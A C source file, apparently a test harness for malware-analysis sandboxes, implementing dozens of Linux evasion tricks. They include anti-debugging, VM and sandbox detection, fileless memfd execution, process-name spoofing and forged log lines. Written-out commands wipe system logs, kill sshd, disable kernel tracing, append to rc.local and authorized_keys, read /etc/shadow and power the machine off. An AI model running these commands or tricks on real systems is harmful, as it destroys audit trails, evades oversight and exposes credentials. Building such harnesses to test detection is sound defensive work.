/* Tricks by which malware tells, misleads or fights an analysis: one function or shell line for each row of
 * docs/evasion.md. Without arguments all quiet ones run, each in a process of its own; else those that are named. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <elf.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <net/if.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096
extern char **environ;
static char *self;

static void show(const char *path)
{
	char text[PAGE];
	int file = open(path, O_RDONLY);
	ssize_t size;

	while (file >= 0 && (size = read(file, text, sizeof(text))) > 0)
		if (write(1, text, size) < 0)
			break;
	close(file);
}

static void list(const char *path)
{
	DIR *folder = opendir(path);
	struct dirent *entry;

	while (folder && (entry = readdir(folder)))
		printf("%s\n", entry->d_name);
	fflush(stdout);
}

static void write_to(const char *path, const char *text)
{
	int file = open(path, O_WRONLY | O_CREAT, 0755);

	if (file >= 0 && write(file, text, strlen(text)) < 0)
		perror(path);
	close(file);
}

static void copy(const char *from, const char *to)
{
	char text[65536];
	int source = open(from, O_RDONLY), target = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	ssize_t size;

	while ((size = read(source, text, sizeof(text))) > 0)
		if (write(target, text, size) < 0)
			break;
	close(source);
	close(target);
}

static int nothing(void *unused)
{
	(void)unused;
	_exit(0);
}

static void on_signal(int number) { (void)number; }

static void e01(void) { printf("%ld\n", ptrace(PTRACE_TRACEME, 0, 0, 0)); fflush(stdout); }

static void e02(void)
{
	pid_t child = fork(), parent = getppid();

	if (!child) {
		ptrace(PTRACE_ATTACH, parent, 0, 0);
		waitpid(parent, NULL, __WALL);
		ptrace(PTRACE_DETACH, parent, 0, 0);
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static void e03(void) { show("/proc/self/status"); }

static void e04(void)
{
	signal(SIGTRAP, on_signal);
	raise(SIGTRAP);
	__asm__ volatile("int3");
}

static void e05(void)
{
	struct rlimit none = { 0, 0 };

	prctl(PR_SET_DUMPABLE, 0);
	setrlimit(RLIMIT_CORE, &none);
	mlockall(MCL_CURRENT);
}

static void e06(void)
{
	int pid = getppid(), up;

	for (up = 0; up < 8 && pid > 1; up++) {
		char path[64], text[PAGE] = "";
		FILE *file;

		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		if (readlink(path, text, sizeof(text) - 1) > 0)
			printf("%s\n", text);
		snprintf(path, sizeof(path), "/proc/%d/comm", pid);
		show(path);
		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
		show(path);
		snprintf(path, sizeof(path), "/proc/%d/stat", pid);
		file = fopen(path, "r");
		if (!file || !fgets(text, sizeof(text), file) || sscanf(strrchr(text, ')') + 4, "%d", &pid) != 1)
			break;
		fclose(file);
	}
	fflush(stdout);
}

static void e07(void)
{
	char first[64];
	int file = open("/proc/self/exe", O_RDONLY);

	if (read(file, first, sizeof(first)) < 0)
		return;
	close(open("/proc/self/maps", O_RDONLY));
	close(open("/proc/self/mem", O_RDONLY));
}

static void e08(void) { close(open("/etc/ld.so.preload", O_RDONLY)); show("/proc/self/environ"); }

static void e11(void)
{
	struct ifreq request = { .ifr_name = "lo" };

	ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCGIFHWADDR, &request);
	if (system("cat /sys/class/net/*/address"))
		return;
}

static void e12(void)
{
	show("/proc/scsi/scsi");
	list("/sys/bus/virtio/devices");
	list("/dev/disk/by-id");
	close(open("/dev/vda", O_RDONLY));
}

static void e13(void)
{
	show("/proc/modules");
	list("/sys/module");
	list("/proc/systemtap");
	list("/sys/kernel/debug");
	if (system("grep -o '\\[.*\\]' /proc/kallsyms | sort -u; dmesg; cat /var/log/kern.log"))
		return;
}

static void e15(void)
{
	static const char *const paths[] = { "/root/.cuckoo", "/tmp/.cuckoo", "/opt/sandbox", "/root/agent.py",
					     "/root/analyzer.py", "/usr/bin/staprun", "/usr/bin/VBoxService" };
	unsigned int i;

	for (i = 0; i < sizeof(paths) / sizeof(*paths); i++)
		printf("%s %d\n", paths[i], access(paths[i], F_OK));
	fflush(stdout);
	if (system("cat /proc/[0-9]*/comm; tr '\\0' ' ' </proc/*/cmdline; cat /proc/[0-9]*/cmdline | tr '\\0' ' '"))
		return;
}

static void e16(void)
{
	struct utsname name;

	uname(&name);
	printf("host %s\n", name.nodename);
	fflush(stdout);
	list("/proc");
	show("/root/.bash_history");
	list("/home/deploy/.ssh");
}

static void e17(void)
{
	struct sysinfo info;
	struct statfs disk;
	cpu_set_t cpus;

	sysinfo(&info);
	statfs("/", &disk);
	sched_getaffinity(0, sizeof(cpus), &cpus);
	show("/proc/uptime");
	show("/proc/meminfo");
	printf("cpus %d\nram %lu\ndisk %lu\nuptime %ld\n", CPU_COUNT(&cpus), info.totalram * info.mem_unit >> 20,
	       disk.f_blocks * disk.f_bsize >> 20, info.uptime);
	fflush(stdout);
}

static void e18(void)
{
	pid_t child = fork();
	struct timespec long_time = { 600, 0 }, moment = { 0, 50000000 };

	if (!child) {
		nanosleep(&long_time, NULL);
		_exit(0);
	}
	nanosleep(&moment, NULL);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
}

static void e19(void)
{
	int i;

	for (i = 0; i < 20000; i++)
		syscall(SYS_getppid);
}

static void e21(void)
{
	struct timespec now, past = { 31536000, 0 };

	clock_gettime(CLOCK_REALTIME, &now);
	clock_settime(CLOCK_REALTIME, &past);
	getppid();
	clock_settime(CLOCK_REALTIME, &now);
}

static void e22(void) { execl("/bin/busybox", "[kworker/0:1]", "true", NULL); }

static void e23(void) { prctl(PR_SET_NAME, "dbus-helper"); getppid(); }

static void e24(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d", getpid());
	mkdir("/tmp/empty", 0755);
	mount("/tmp/empty", path, NULL, MS_BIND, NULL);
	getppid();
	umount2(path, MNT_DETACH);
	mount("proc", "/proc", "proc", MS_REMOUNT, "hidepid=2");
	mount("proc", "/proc", "proc", MS_REMOUNT, "hidepid=0");
}

static void e25(void)
{
	if (fork())
		_exit(0);
	setsid();
	if (fork())
		_exit(0);
	usleep(300000);
	write_to("/tmp/daemon-was-here", "x");
}

static void e26(void)
{
	char *words[] = { "true", NULL };
	pid_t child;
	FILE *pipe;

	if (!vfork())
		execv("/bin/true", words);
	wait(NULL);
	posix_spawn(&child, "/bin/true", NULL, NULL, words, environ);
	waitpid(child, NULL, 0);
	if (system("exec true"))
		return;
	pipe = popen("exec true", "r");
	pclose(pipe);
}

static void e27(void)
{
	static char stack[2][65536] __attribute__((aligned(16)));

	clone(nothing, stack[0] + 65536, CLONE_UNTRACED | SIGCHLD, NULL);
	clone(nothing, stack[1] + 65536, CLONE_PARENT, NULL);
	wait(NULL);
}

static void e28(void)
{
	pid_t first = fork(), second;
	char text[32];

	if (!first)
		_exit(1);
	waitpid(first, NULL, 0);
	snprintf(text, sizeof(text), "%d", first - 1);
	write_to("/proc/sys/kernel/ns_last_pid", text);
	second = fork();
	if (!second)
		_exit(2);
	waitpid(second, NULL, 0);
}

static void *run_true(void *unused)
{
	execl("/bin/true", "from-a-thread", NULL);
	return unused;
}

static void e29(void)
{
	pthread_t thread;

	pthread_create(&thread, NULL, run_true, NULL);
	pthread_join(thread, NULL);
}

static void e30(void)
{
	if (setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000))
		return;
	execl("/bin/true", "true", NULL);
}

static void e33(void)
{
	static char word[8] = "before";
	struct iovec ours = { "after!", 7 }, theirs = { word, 7 };
	char path[64];
	pid_t child = fork();
	int file;

	if (!child)
		for (;;)
			pause();
	process_vm_writev(child, &ours, 1, &theirs, 1, 0);
	snprintf(path, sizeof(path), "/proc/%d/mem", child);
	file = open(path, O_RDWR);
	if (pwrite(file, "third", 6, (off_t)word) < 0)
		perror(path);
	ptrace(PTRACE_ATTACH, child, 0, 0);
	waitpid(child, NULL, 0);
	ptrace(PTRACE_POKEDATA, child, word, 0x41414141L);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
}

static void e34(void)
{
	int memory = memfd_create("hidden", 0), source = open("/bin/true", O_RDONLY);
	char text[65536], *words[] = { "hidden", NULL };
	ssize_t size;

	while ((size = read(source, text, sizeof(text))) > 0)
		if (write(memory, text, size) < 0)
			break;
	syscall(SYS_execveat, memory, "", words, environ, AT_EMPTY_PATH);
}

static void e35(void)
{
	char path[64];
	int file = open("/dev/shm", O_TMPFILE | O_RDWR, 0755);

	snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
	linkat(AT_FDCWD, path, AT_FDCWD, "/dev/shm/.linked", AT_SYMLINK_FOLLOW);
	copy("/bin/true", "/dev/shm/.x");
	execl("/dev/shm/.x", ".x", NULL);
}

static void e36(void)
{
	copy(self, "/tmp/deletes-itself");
	execl("/tmp/deletes-itself", "deletes-itself", "E36b", NULL);
}

static void e36b(void) { unlink("/tmp/deletes-itself"); }

static void e38(void)
{
	char line[7000];

	memset(line, ' ', sizeof(line));
	strcpy(line + 6900, "exec true");
	execl("/bin/sh", "sh", "-c", line, NULL);
}

static void e39(void)
{
	char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	*page = (char)0xc3;
	mprotect(page, PAGE, PROT_READ | PROT_EXEC);
	((void (*)(void))page)();
}

static void e40(void)
{
	struct io_uring_params setup = { 0 };
	int ring = syscall(SYS_io_uring_setup, 4, &setup);
	char *submissions = mmap(NULL, setup.sq_off.array + 64, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
				 IORING_OFF_SQ_RING);
	struct io_uring_sqe *entry = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
					  IORING_OFF_SQES);

	if (submissions == MAP_FAILED || entry == MAP_FAILED)
		return;
	entry->opcode = IORING_OP_OPENAT;
	entry->fd = AT_FDCWD;
	entry->addr = (unsigned long)"/etc/shadow";
	*(unsigned int *)(submissions + setup.sq_off.array) = 0;
	*(unsigned int *)(submissions + setup.sq_off.tail) = 1;
	syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
}

static void e41(void)
{
	char *low = mmap((void *)0x10000000, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	long result = 5;

	strcpy(low, "/etc/by-int80");
	__asm__ volatile("int $0x80" : "+a"(result) : "b"(low), "c"(0L), "d"(0L) : "memory", "r8", "r9", "r10", "r11");
}

static void e42(void) { syscall(0x40000000 + SYS_getppid); }

static void e43(void)
{
	struct { unsigned long flags, mode, resolve; } how = { 0 };
	int here;

	syscall(SYS_openat2, AT_FDCWD, "/etc/hostname", &how, sizeof(how));
	syscall(SYS_faccessat2, AT_FDCWD, "/etc/shadow", R_OK, AT_EACCESS);
	here = syscall(SYS_pidfd_open, getpid(), 0);
	syscall(SYS_pidfd_send_signal, here, 0, NULL, 0);
	syscall(SYS_pidfd_getfd, here, 0, 0);
	syscall(SYS_fsopen, "tmpfs", 0);
	syscall(SYS_open_tree, AT_FDCWD, "/tmp", 0);
	syscall(SYS_move_mount, -1, "", -1, "", 0);
	syscall(SYS_mount_setattr, -1, "", 0, NULL, 0);
	syscall(SYS_process_madvise, here, NULL, 0, 0, 0);
	syscall(SYS_copy_file_range, -1, NULL, -1, NULL, 1, 0);
	syscall(SYS_renameat2, AT_FDCWD, "/tmp/no", AT_FDCWD, "/tmp/none", 0);
	syscall(SYS_close_range, 100, 200, 0);
	syscall(SYS_clone3, NULL, 0);
}

static volatile char swapped[32];
static volatile int stop;

static void *swap(void *unused)
{
	while (!stop) {
		swapped[5] = 'h';
		swapped[5] = 's';
	}
	return unused;
}

static void e44(void)
{
	pthread_t thread;
	int i;

	strcpy((char *)swapped, "/etc/hadow");
	pthread_create(&thread, NULL, swap, NULL);
	for (i = 0; i < 50; i++)
		close(open((char *)swapped, O_RDONLY));
	stop = 1;
	pthread_join(thread, NULL);
}

static void e45(void)
{
	execl("/bin/true", "\nMon Jan  1 00:00:00 2024.000000 evil@1[1] execve(\"/bin/forged\") = 0\n", "\033[2J",
	      "\"),(=[]{}<script>", NULL);
}

static void e46(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { 4, code };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
	syscall(SYS_getppid);
}

static void e47(void)
{
	pid_t child;

	unshare(CLONE_NEWPID | CLONE_NEWNS | CLONE_NEWNET);
	child = fork();
	if (!child) {
		printf("pid %ld\n", syscall(SYS_getpid));
		fflush(stdout);
		mkdir("/tmp/jail", 0755);
		if (chroot("/tmp/jail"))
			_exit(1);
		close(open("/inside", O_WRONLY | O_CREAT, 0600));
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static void e48(void)
{
	static char program[64];
	int file = open("/bin/true", O_RDONLY);

	syscall(SYS_init_module, program, sizeof(program), "");
	syscall(SYS_finit_module, file, "", 0);
	syscall(SYS_kexec_load, 0, 17, NULL, 0);
	syscall(SYS_bpf, 5, program, sizeof(program));
	close(open("/dev/mem", O_RDONLY));
	close(open("/proc/kcore", O_RDONLY));
}

static void e53(void)
{
	struct ifreq request = { .ifr_name = "lo", .ifr_flags = 0 };

	ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCSIFFLAGS, &request);
	write_to("/etc/resolv.conf", "nameserver 10.1.2.3\n");
	write_to("/etc/hosts", "127.0.0.1 localhost\n");
}

static void e54(void)
{
	struct sock_filter code[] = { BPF_STMT(BPF_RET | BPF_K, 0) };
	struct sock_fprog program = { 1, code };
	int raw = socket(AF_PACKET, SOCK_RAW, htons(3));

	setsockopt(raw, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof(program));
}

static void e55(void)
{
	static const char query[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06" "qwerty" "\x04" "test\x00\x00\x01\x00\x01";
	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(53) };

	server.sin_addr.s_addr = inet_addr("8.8.8.8");
	sendto(socket(AF_INET, SOCK_DGRAM, 0), query, sizeof(query) - 1, 0, (struct sockaddr *)&server, sizeof(server));
}

static void e56(void)
{
	struct sockaddr_in port = { .sin_family = AF_INET, .sin_port = htons(48101) };
	int first = socket(AF_INET, SOCK_STREAM, 0);

	port.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	bind(first, (struct sockaddr *)&port, sizeof(port));
	listen(first, 1);
	bind(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&port, sizeof(port));
	show("/proc/net/tcp");
}

static void patched(const char *path, size_t at, const void *bytes, size_t size)
{
	int file;

	copy("/bin/true", path);
	file = open(path, O_WRONLY);
	if (pwrite(file, bytes, size, at) < 0)
		perror(path);
	close(file);
	execl(path, path, NULL);
}

static void e57(void) { patched("/tmp/malformed", offsetof(Elf64_Ehdr, e_shoff), "\xff\xff\xff\xff\xff\xff\xff\x7f", 8); }

static void e58(void) { patched("/tmp/for-arm", offsetof(Elf64_Ehdr, e_machine), "\x28\x00", 2); }

static void e59(void) { _exit(strcmp(self, "/usr/sbin/telnetd") ? 3 : 0); }

static void e60(void)
{
	inotify_add_watch(inotify_init(), "/var/log/wtmp", IN_MODIFY);
	close(open("/dev/input/event0", O_RDONLY));
}

static void e50(void) { syscall(SYS_delete_module, "stap_1", 0); }

static void e52(void)
{
	sync();
	reboot(RB_POWER_OFF);
}

static const struct { const char *id; void (*trick)(void); const char *shell; int fights; } tricks[] = {
	{ "E01", e01, 0, 0 }, { "E02", e02, 0, 0 }, { "E03", e03, 0, 0 }, { "E04", e04, 0, 0 }, { "E05", e05, 0, 0 },
	{ "E06", e06, 0, 0 }, { "E07", e07, 0, 0 }, { "E08", e08, 0, 0 },
	{ "E09", 0, "cat /sys/class/dmi/id/* /sys/firmware/dmi/entries/0-0/raw | tr -c '[:print:]\\n' ' '", 0 },
	{ "E10", 0, "cat /proc/cpuinfo", 0 },
	{ "E11", e11, 0, 0 }, { "E12", e12, 0, 0 }, { "E13", e13, 0, 0 },
	{ "E14", 0, "systemd-detect-virt; ls /.dockerenv /run/systemd/container", 0 },
	{ "E15", e15, 0, 0 }, { "E16", e16, 0, 0 }, { "E17", e17, 0, 0 }, { "E18", e18, 0, 0 }, { "E19", e19, 0, 0 },
	{ "E21", e21, 0, 0 }, { "E22", e22, 0, 0 }, { "E23", e23, 0, 0 }, { "E24", e24, 0, 0 }, { "E25", e25, 0, 0 },
	{ "E26", e26, 0, 0 }, { "E27", e27, 0, 0 }, { "E28", e28, 0, 0 }, { "E29", e29, 0, 0 }, { "E30", e30, 0, 0 },
	{ "E31", 0, "systemd-run --quiet --wait /bin/sh -c 'exec true handed'", 0 },
	{ "E32", 0, "echo x >>/etc/rc.local; echo x >>/root/.bashrc; mkdir -p /root/.ssh; echo x >>/root/.ssh/authorized_keys", 0 },
	{ "E33", e33, 0, 0 }, { "E34", e34, 0, 0 }, { "E35", e35, 0, 0 }, { "E36", e36, 0, 0 },
	{ "E37", 0, "echo 'echo from standard input' | sh", 0 },
	{ "E38", e38, 0, 0 }, { "E39", e39, 0, 0 }, { "E40", e40, 0, 0 }, { "E41", e41, 0, 0 }, { "E42", e42, 0, 0 },
	{ "E43", e43, 0, 0 }, { "E44", e44, 0, 0 }, { "E45", e45, 0, 0 }, { "E46", e46, 0, 0 }, { "E47", e47, 0, 0 },
	{ "E48", e48, 0, 0 },
	{ "E49", 0, "kill -9 $(pgrep -x irqbalance) $(pgrep -x sshd-session); true after", 1 },
	{ "E50", e50, "echo 0 >/proc/sys/kernel/ftrace_enabled; echo 0 >/sys/kernel/tracing/tracing_on; "
		    "mount -t debugfs d /mnt; echo 0 >/mnt/kprobes/enabled; umount /mnt; umount /sys/kernel/tracing; true after", 1 },
	{ "E51", 0, "systemctl stop rsyslog; : >/var/log/auth.log; rm -f /var/log/wtmp; rm -f /var/log/syslog; ln -sf /dev/null /root/.bash_history", 1 },
	{ "E53", e53, 0, 1 }, { "E54", e54, 0, 0 }, { "E55", e55, 0, 0 }, { "E56", e56, 0, 0 }, { "E57", e57, 0, 0 },
	{ "E58", e58, 0, 0 }, { "E59", e59, 0, 0 }, { "E60", e60, 0, 0 }, { "E52", e52, 0, 1 }, { "E36b", e36b, 0, 1 },
};

static void one(int i)
{
	pid_t child;

	dprintf(1, "\n== %s\n", tricks[i].id);
	child = fork();
	if (!child) {
		execl(self, "trick", tricks[i].id, NULL);
		_exit(127);
	}
	waitpid(child, NULL, 0);
}

int main(int count, char **words)
{
	int i, number = sizeof(tricks) / sizeof(*tricks);

	self = realpath("/proc/self/exe", NULL);
	if (count != 2)
		signal(SIGPIPE, SIG_IGN);	/* whoever reads the output may be killed */
	for (i = 0; i < number && count == 2; i++) {
		if (strcmp(words[1], tricks[i].id))
			continue;
		if (tricks[i].trick)
			tricks[i].trick();
		if (tricks[i].shell)
			execl("/bin/sh", "sh", "-c", tricks[i].shell, NULL);
		return 0;
	}
	for (i = 0; i < number; i++)
		if (tricks[i].fights == (count > 2 && !strcmp(words[1], "all")))
			if (strcmp(tricks[i].id, "E36b"))
				one(i);
	return 0;
}
